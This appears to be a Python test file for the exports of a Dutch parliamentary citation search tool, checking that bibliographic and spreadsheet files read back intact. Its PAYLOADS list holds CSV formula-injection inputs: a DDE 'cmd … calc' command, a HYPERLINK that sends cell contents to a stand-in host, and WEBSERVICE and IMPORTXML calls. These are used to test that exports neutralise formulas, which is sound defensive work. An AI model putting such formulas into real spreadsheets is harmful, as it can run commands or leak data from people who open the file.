"""Every export, read back by another program's library: nothing is lost and nothing becomes a formula."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from typing import TYPE_CHECKING, Any

import bibtexparser
import openpyxl
import pytest
import rispy
from bibtexparser.middlewares import LatexDecodingMiddleware, SeparateCoAuthors
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from search_factories import Part, make_citation, make_document

from ingest.model import CitationKind, Verdict
from search.export.bibliography import _tex
from search.export.formats import export
from search.export.sheet import csv_for_excel, csv_plain, unguard, workbook

if TYPE_CHECKING:
    from search.knowledge_base import KnowledgeBase

TITLE = "over „crème brûlée” & {100%} $; \"Wörsdörfer\" a_b #1 C:\\x ~ -- ''wat''"
URL = "https://zoek.officielebekendmakingen.nl/{}.html"

_STARTS = ("=", "+", "-", "@", "\t", "\r", "'", "''", "'=", "=\n")
_FORMULAS = (
    "1+1", 'HYPERLINK("http://x.example/?"&A1;"klik")', "cmd|' /C calc'!A0", "SUM(1;2)", "WEBSERVICE(A1)",
    'IMPORTXML("http://x.example","//a")', "2+5+cmd|' /C calc'!A0", "#N/A", "A1", '"; ,\n=1',
)  # fmt: skip
PAYLOADS = tuple(f"{start}{formula}" for start in _STARTS for formula in _FORMULAS)


@pytest.fixture
def cited(kb: KnowledgeBase) -> KnowledgeBase:
    """A motie whose title has every awkward sign, printed without its chapter; a letter; and a law."""
    motie = make_citation(
        text="Motie Van der Lee c.s.", id="kst-35925-36", url=URL.format("kst-35925-36"), dossier="35925", number="36",
        likely_id="kst-35925-XVII-36", verdict=Verdict.AMBIGUOUS, reason="Begroting; zonder hoofdstuk.", title=TITLE,
        submitters=("Van der Lee", "Wörsdörfer"), cosigned=True,
    )  # fmt: skip
    letter = make_citation(
        text="Kamerbrief Handel", kind=CitationKind.KAMERBRIEF, id=None, url=None, dossier=None, number=None,
        chamber=None, session_year=None, title="Handel {en", submitters=(), verdict=Verdict.INCOMPLETE,
    )  # fmt: skip
    law = make_citation(
        text="Stcrt. 2024, 2900", kind=CitationKind.STAATSCOURANT, id="stcrt-2024-2900", url=URL.format("stcrt-2024-2900"),
        dossier=None, number="2900", chamber=None, session_year=None, title=None, submitters=(),
    )  # fmt: skip
    kb.add_document(
        make_document(
            Part((f"=1+1 {motie.text} en {letter.text}.",), ("Eén & twee",), (13,), 7, cites=(motie, letter)),
            Part((f"Zie {law.text}.",), ("Twee",), cites=(law,)),
            id_="a",
            title="Nota: {werk}",
        )
    )
    return kb


def read_ris(data: bytes) -> list[dict[str, Any]]:
    """Read RIS as rispy does."""
    return rispy.loads(data.decode())


def read_bibtex(data: bytes) -> list[dict[str, Any]]:
    """Read BibTeX as bibtexparser does, TeX taken out of all but names, which keep their braces."""
    read = bibtexparser.parse_string(
        data.decode(), append_middleware=[SeparateCoAuthors(), LatexDecodingMiddleware(keep_math_mode=False)]
    )
    assert read.failed_blocks == []
    return [{"key": entry.key, **{field.key: field.value for field in entry.fields}} for entry in read.entries]


def test_ris(cited: KnowledgeBase) -> None:
    """A bill with its makers, number, address and what to know of it; a gazette is a statute."""
    motie, letter, law = read_ris(export(cited, "citations", "ris"))
    assert {**motie, "notes": None} == {
        "language": "nl",
        "tertiary_title": "Tweede Kamer der Staten-Generaal",
        "edition": "2021/22",  # of a bill the session
        "date": "2021/2022",
        "year": "2021/2022",
        "type_of_reference": "BILL",
        "id": "kst-35925-XVII-36",
        "title": f"Motie {TITLE}",
        "authors": ["Van der Lee", "Wörsdörfer"],
        "secondary_title": "Kamerstukken II",
        "volume": "2021/22",
        "note": "35925 XVII, nr. 36",  # RIS has M1 for the number of a bill; rispy calls it so for every type
        "keywords": ["motie"],
        "urls": [URL.format("kst-35925-XVII-36")],
        "notes": None,
    }
    remarks = (
        "Indieners: Van der Lee en Wörsdörfer c.s.",
        "Gedrukt staat 35925, nr. 36; waarschijnlijk bedoeld is 35925 XVII, nr. 36.",
        "Begroting; zonder hoofdstuk.",
    )
    assert motie["notes"] == [
        "„=1+1 Motie Van der Lee c.s. en Kamerbrief Handel.” (Nota: {werk}, 2022, p. 7, Eén & twee)",
        " ".join(remarks),
    ]
    assert (letter["title"], "urls" in letter, "note" in letter) == ("Kamerbrief: Handel {en", False, False)
    assert tuple(law[name] for name in ("type_of_reference", "secondary_title", "volume", "note")) == (
        "STAT", "Stcrt.", "2024", "2900",
    )  # fmt: skip


def test_bibtex(cited: KnowledgeBase) -> None:
    """The same from BibTeX; "c.s." is its "and others"."""
    motie, letter, law = read_bibtex(export(cited, "citations", "bibtex"))
    assert (motie["key"], letter["key"], law["key"]) == (
        "kst-35925-XVII-36", "zonder-nummer-kamerbrief-handel-en", "stcrt-2024-2900",
    )  # fmt: skip
    assert motie["title"] == f"Motie {TITLE}"
    assert motie["author"] == ["{Van der Lee}", "{Wörsdörfer}", "others"]
    assert (motie["howpublished"], motie["series"], motie["volume"], motie["number"]) == (
        "Kamerstukken II 2021/22, 35925 XVII, nr. 36", "Kamerstukken II", "2021/22", "35925 XVII, nr. 36",
    )  # fmt: skip
    assert motie["url"] == URL.format("kst-35925-XVII-36")
    assert "Gedrukt staat 35925, nr. 36; waarschijnlijk bedoeld is 35925 XVII, nr. 36." in motie["note"]
    assert motie["annote"].startswith("„=1+1 Motie Van der Lee c.s. en Kamerbrief Handel.” (Nota")
    assert (motie["year"], law["year"], "abstract" in motie) == ("2021/2022", "2024", False)
    assert letter["title"] == "Kamerbrief: Handel {en"


def test_csl_json(cited: KnowledgeBase) -> None:
    """The fields that citation processors know, each a text, and no empty ones."""
    motie, letter, law = json.loads(export(cited, "citations", "csl-json"))
    assert {name: motie[name] for name in motie if name != "note"} == {
        "id": "kst-35925-XVII-36",
        "type": "bill",
        "title": f"Motie {TITLE}",
        "author": [{"family": "Van der Lee"}, {"family": "Wörsdörfer"}],
        "container-title": "Kamerstukken II",
        "volume": "2021/22",
        "number": "35925 XVII, nr. 36",
        "authority": "Tweede Kamer der Staten-Generaal",
        "issued": {"date-parts": [[2021], [2022]]},
        "keyword": "motie",
        "URL": URL.format("kst-35925-XVII-36"),
        "language": "nl",
    }
    assert motie["note"].splitlines()[-1].endswith("Kamerbrief Handel.” (Nota: {werk}, 2022, p. 7, Eén & twee)")
    assert (law["type"], law["container-title"], law["volume"], law["number"]) == (
        "legislation", "Stcrt.", "2024", "2900",
    )  # fmt: skip
    assert not any(value in ("", []) for item in (motie, letter, law) for value in item.values())


def test_moties_only(cited: KnowledgeBase) -> None:
    """The records of the moties are among those of all papers."""
    for form in ("ris", "bibtex"):
        assert export(cited, "papers", form).startswith(export(cited, "moties", form))
    assert json.loads(export(cited, "moties", "csl-json")) == json.loads(export(cited, "papers", "csl-json"))[:1]


def test_workbook(cited: KnowledgeBase) -> None:
    """A sheet per kind, headed in Dutch, with typed cells, links, a filter and a header that stays in sight."""
    book = openpyxl.load_workbook(io.BytesIO(export(cited, "citations", "xlsx")))
    assert book.sheetnames == ["motie", "Kamerbrief", "Staatscourant"]
    sheet = book["motie"]
    names = [cell.value for cell in sheet[1]]
    row = dict(zip(names, sheet[2], strict=True))
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", sheet.dimensions)
    assert (row["Bladzijde"].value, row["c.s."].value, row["Onderwerp"].value) == (7, "ja", TITLE)
    assert row["Link"].hyperlink.target == URL.format("kst-35925-XVII-36")
    assert (row["Zin"].value, row["Zin"].data_type) == (
        "=1+1 Motie Van der Lee c.s. en Kamerbrief Handel.",
        "s",
    )


@pytest.mark.parametrize("what", ["moties", "papers", "citations", "passages", "cells"])
def test_sheets_hold_the_same(cited: KnowledgeBase, what: str) -> None:
    """The CSV for Excel and the workbook have the same columns and cells; the CSV for programs as many rows."""
    excel = list(csv.reader(io.StringIO(export(cited, what, "csv").decode("utf-8-sig"), newline=""), delimiter=";"))
    plain = list(csv.reader(io.StringIO(export(cited, what, "csv-plain").decode(), newline="")))
    book = openpyxl.load_workbook(io.BytesIO(export(cited, what, "xlsx")))
    names = [cell.value for cell in book.worksheets[0][1]]
    cells = [
        dict(zip(names, ["" if cell is None else str(cell) for cell in row], strict=True))
        for sheet in book
        for row in sheet.iter_rows(min_row=2, values_only=True)
    ]
    assert len(plain) == len(excel)
    assert cells == [dict(zip(excel[0], [unguard(cell) for cell in row], strict=True)) for row in excel[1:]]


def test_session_year_is_no_date_in_excel(cited: KnowledgeBase) -> None:
    """The CSV that Excel opens keeps it as text; the one for programs has it as it is."""
    excel = csv.DictReader(
        io.StringIO(export(cited, "citations", "csv").decode("utf-8-sig"), newline=""), delimiter=";"
    )
    plain = csv.DictReader(io.StringIO(export(cited, "citations", "csv-plain").decode(), newline=""))
    assert [row["Vergaderjaar"] for row in excel] == ["'2021/22", "", ""]
    assert [row["session_year"] for row in plain] == ["2021/22", "", ""]


@pytest.mark.parametrize(
    "text",
    [
        "2011/12", "1999-00", "3-4", "1/2", "1.10", "1-2-2024", "12:30", "mei 2024", "3 mei", "1 januari 2025", "mrt-24",
        "007", "1.000", "12,5", "50%", "€ 10", "2e3", " 2011/12 ",
    ],
)  # fmt: skip
def test_what_excel_would_change_stays_text(text: str) -> None:
    """A text that looks like a date, a time or a number is guarded, alone and in a list; reading back gives it again."""
    for value in (text, [text]):
        _, row = csv.reader(io.StringIO(csv_for_excel([{"a": value}], ("a",)).decode("utf-8-sig")), delimiter=";")
        assert (row[0][0], unguard(row[0])) == ("'", text)


@pytest.mark.parametrize(
    "value", [2024, 0.5, [3], [], None, True, "Doelen 2024", "§ 3.1", "kst-35925-36", "mei-Hem", ""]
)
def test_what_excel_keeps_is_not_guarded(value: object) -> None:
    """Numbers stay numbers, and other texts have no apostrophe."""
    _, row = csv.reader(
        io.StringIO(csv_for_excel([{"a": value, "b": "x"}], ("a", "b")).decode("utf-8-sig")), delimiter=";"
    )
    assert not row[0].startswith("'")


def test_nothing_in_a_workbook() -> None:
    """A sheet with its header, as a workbook must have one."""
    book = openpyxl.load_workbook(io.BytesIO(workbook({"moties": []}, ("id", "url"))))
    assert [[cell.value for cell in row] for row in book["moties"]] == [["id", "url"]]


def test_there_are_a_hundred_payloads() -> None:
    """Each way to begin with each formula."""
    assert len(set(PAYLOADS)) == 100


@pytest.mark.parametrize("write", [csv_for_excel, csv_plain])
def test_no_payload_is_a_formula_in_csv(write: Any) -> None:  # noqa: ANN401
    """No cell begins as a formula does, and taking the apostrophe off gives the text back."""
    data = write([{"a": text} for text in PAYLOADS], ("a",)).decode("utf-8-sig")
    _, *rows = csv.reader(io.StringIO(data, newline=""), delimiter=";" if write is csv_for_excel else ",")
    cells = [cell for (cell,) in rows]
    assert [cell for cell in cells if cell[0] in "=+-@\t\r"] == []
    assert list(PAYLOADS) == [unguard(cell) for cell in cells]


def test_no_payload_is_a_formula_in_a_workbook() -> None:
    """Each is stored as a text, unchanged; the file holds no formula at all."""
    data = workbook({"a": [{"a": text} for text in PAYLOADS]}, ("a",))
    cells = [row[0] for row in openpyxl.load_workbook(io.BytesIO(data))["a"].iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    # A carriage return is written as Excel writes it, since XML would make it a line feed.
    assert [text.replace("\r", "_x000D_") for text in PAYLOADS] == [cell.value for cell in cells]
    assert [cell.quotePrefix for cell in cells] == [text[0] in "=+-@\t\r" for text in PAYLOADS]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\x07b\rc", "a\x07b\rc"),
        ("_x0041_", "_x0041_"),  # not an escape of ours: reading must not make it an A
        ("x" * 40_000, "x" * 32_736 + " … (ingekort; volledig in json)"),
        ("  spaties  ", "  spaties  "),
    ],
)
def test_awkward_text_in_a_workbook(text: str, expected: str) -> None:
    """What Excel cannot hold is written its own way or shortened with a word about it; never an error."""
    data = workbook({"a": [{"a": text}]}, ("a",))
    assert expected == unescape(openpyxl.load_workbook(io.BytesIO(data))["a"]["A2"].value)


def test_a_workbook_holds_no_moment(cited: KnowledgeBase) -> None:
    """The same rows give the same bytes, whenever and by whomever they are asked."""
    data = export(cited, "citations", "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert not re.search(rb"\d{4}-\d\d-\d\dT", archive.read("docProps/core.xml"))


@given(st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Zl", "Zp"]), min_size=1, max_size=30))
def test_any_text_survives_bibtex(text: str) -> None:
    """Whatever TeX means by a sign, reading gives the text back (its circumflex comes back as the letter of that form)."""
    [entry] = read_bibtex(f"@misc{{a,\n  title = {{x{_tex(text)}x}},\n}}\n".encode())
    assert f"x{text}x".replace("^", "ˆ") == entry["title"]
